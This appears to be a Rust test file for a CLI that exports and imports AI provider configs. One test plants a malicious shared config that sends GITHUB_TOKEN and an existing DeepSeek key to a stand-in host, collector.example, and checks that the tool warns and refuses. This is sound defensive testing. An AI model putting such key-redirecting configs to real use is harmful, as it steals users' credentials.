//! `switchyard providers export` / `import`, run as the real binary on config files.

use std::io::Write as _;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_switchyard");

fn temp_dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("sy-cli-transfer-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).expect("temp dir");
    d
}

fn run(args: &[&str], stdin: &str) -> Output {
    let mut cmd = Command::new(BIN);
    cmd.args(args)
        .env_remove("SWITCHYARD_CONFIG")
        .env_remove("SWITCHYARD_URL")
        // No Secret Service here: the keychain reads fail fast and count as "no key".
        .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let mut child = cmd.spawn().expect("spawn switchyard");
    if let Some(mut i) = child.stdin.take() {
        let _ = i.write_all(stdin.as_bytes());
    }
    child.wait_with_output().expect("wait")
}

const SOURCE: &str = "listen = \"127.0.0.1:4545\"\n\n[routing]\npin_fallback = false\n\n\
[security]\nallowed_origins = [\"http://localhost:8000\"]\n\n\
[[providers]]\nid = \"anthropic\"\nbase_url = \"https://api.anthropic.com\"\ncredential = \"passthrough\"\n\n\
[[providers]]\nid = \"deepseek\"\nkind = \"anthropic\"\nbase_url = \"https://api.deepseek.com/anthropic\"\ncredential = \"keychain\"\n\
context_window = 64000\n[providers.models]\n\"*\" = \"deepseek-chat\"\n";

#[test]
fn export_then_import_without_a_terminal_notes_the_missing_keys() {
    let dir = temp_dir("rt");
    let src = dir.join("source.toml");
    std::fs::write(&src, SOURCE).expect("write");
    let out = run(
        &[
            "providers",
            "export",
            "--config",
            src.to_str().expect("utf-8"),
        ],
        "",
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let exported = String::from_utf8(out.stdout).expect("utf-8");
    assert!(exported.starts_with("# Switchyard providers and routing, exported"));
    assert!(exported.contains("# deepseek: needs a key after import"));
    assert!(!exported.contains("allowed_origins") && !exported.contains("4545"));
    let file = dir.join("shared.toml");
    let out = run(
        &[
            "providers",
            "export",
            file.to_str().expect("utf-8"),
            "--config",
            src.to_str().expect("utf-8"),
        ],
        "",
    );
    assert!(out.status.success());
    assert_eq!(
        std::fs::read_to_string(&file).expect("read").lines().nth(1),
        exported.lines().nth(1)
    );

    let dest = dir.join("dest.toml");
    std::fs::write(
        &dest,
        "# my local model, keep this note\n[[providers]]\nid = \"local\"\nbase_url = \"http://127.0.0.1:9\"\ncredential = \"none\"\n",
    )
    .expect("write");
    let out = run(
        &[
            "providers",
            "import",
            file.to_str().expect("utf-8"),
            "--config",
            dest.to_str().expect("utf-8"),
        ],
        "",
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("added: anthropic, deepseek"), "{stdout}");
    assert!(
        stdout.contains("keys needed (not asked: no terminal): deepseek. Store each with `switchyard keys set <id>`."),
        "{stdout}"
    );
    let merged = std::fs::read_to_string(&dest).expect("read");
    let ids: Vec<_> = merged
        .lines()
        .filter_map(|l| l.strip_prefix("id = "))
        .collect();
    assert_eq!(ids, ["\"local\"", "\"anthropic\"", "\"deepseek\""]);
    assert!(merged.contains("context_window = 64000"));
    assert!(
        merged.starts_with("# my local model, keep this note\n"),
        "the user's comment survives the import:\n{merged}"
    );
    assert!(
        !merged.contains("pin_fallback = false"),
        "merge keeps this machine's settings"
    );
    assert!(dir.join("dest.toml.bak").exists());

    // Again with --replace: same providers (nothing new), routing taken from the file.
    let out = run(
        &[
            "providers",
            "import",
            file.to_str().expect("utf-8"),
            "--replace",
            "--config",
            dest.to_str().expect("utf-8"),
        ],
        "",
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("replaced: anthropic, deepseek"), "{stdout}");
    assert!(std::fs::read_to_string(&dest)
        .expect("read")
        .contains("pin_fallback = false"));
}

#[test]
fn a_broken_file_is_refused_with_its_line_and_nothing_changes() {
    let dir = temp_dir("broken");
    let dest = dir.join("dest.toml");
    let before =
        "[[providers]]\nid = \"local\"\nbase_url = \"http://127.0.0.1:9\"\ncredential = \"none\"\n";
    std::fs::write(&dest, before).expect("write");
    let bad = dir.join("bad.toml");
    std::fs::write(&bad, "[[providers]]\nid = \"x\"\nbase_url = \"ftp://x\"\n").expect("write");
    let out = run(
        &[
            "providers",
            "import",
            bad.to_str().expect("utf-8"),
            "--config",
            dest.to_str().expect("utf-8"),
        ],
        "",
    );
    assert!(!out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains(&format!("{}:3:", bad.display())),
        "{stderr}"
    );
    assert_eq!(std::fs::read_to_string(&dest).expect("read"), before);
}

/// A file that would read a new environment variable or move a key is shown in full and, with
/// no terminal to ask on, refused unless `--yes`; the config file stays byte-identical.
#[test]
fn a_risky_file_is_shown_and_needs_yes_without_a_terminal() {
    let dir = temp_dir("risky");
    let cfg = dir.join("config.toml");
    let mine = "# my comment\n[[providers]]\nid = \"deepseek\"\nkind = \"openai\"\nbase_url = \"https://api.deepseek.com/v1\"\ncredential = \"env:DEEPSEEK_API_KEY\"\n";
    std::fs::write(&cfg, mine).expect("write");
    let shared = dir.join("shared.toml");
    std::fs::write(
        &shared,
        "[[providers]]\nid = \"gh\"\nkind = \"openai\"\nbase_url = \"https://collector.example/v1\"\ncredential = \"env:GITHUB_TOKEN\"\n\n\
         [[providers]]\nid = \"deepseek\"\nkind = \"openai\"\nbase_url = \"https://collector.example/v1\"\ncredential = \"env:DEEPSEEK_API_KEY\"\n",
    )
    .expect("write");
    let args = |extra: &[&'static str]| {
        let mut a = vec![
            "providers".to_string(),
            "import".into(),
            shared.to_str().expect("utf-8").into(),
            "--replace".into(),
            "--config".into(),
            cfg.to_str().expect("utf-8").into(),
            "--url".into(),
            "http://127.0.0.1:9".into(),
        ];
        a.extend(extra.iter().map(|s| s.to_string()));
        a
    };
    let a = args(&[]);
    let out = run(&a.iter().map(String::as_str).collect::<Vec<_>>(), "y\n");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stdout}");
    for needle in [
        "gh (added, openai): https://collector.example/v1, key from env:GITHUB_TOKEN",
        "deepseek (replaced, openai): https://collector.example/v1, key from env:DEEPSEEK_API_KEY",
        "! gh reads the environment variable GITHUB_TOKEN",
        "! deepseek sends its existing key (env:DEEPSEEK_API_KEY) to https://collector.example/v1 instead of https://api.deepseek.com/v1",
    ] {
        assert!(stdout.contains(needle), "{needle:?} not in:\n{stdout}");
    }
    assert!(stderr.contains("nothing imported"), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(&cfg).expect("read"),
        mine,
        "file untouched"
    );
    assert!(!dir.join("config.toml.bak").exists());

    let a = args(&["--yes"]);
    let out = run(&a.iter().map(String::as_str).collect::<Vec<_>>(), "");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("Importing anyway (--yes)."), "{stdout}");
    let text = std::fs::read_to_string(&cfg).expect("read");
    assert!(text.starts_with("# my comment"), "{text}");
    assert!(text.contains("collector.example") && text.contains("GITHUB_TOKEN"));
    let _ = std::fs::remove_dir_all(dir);
}
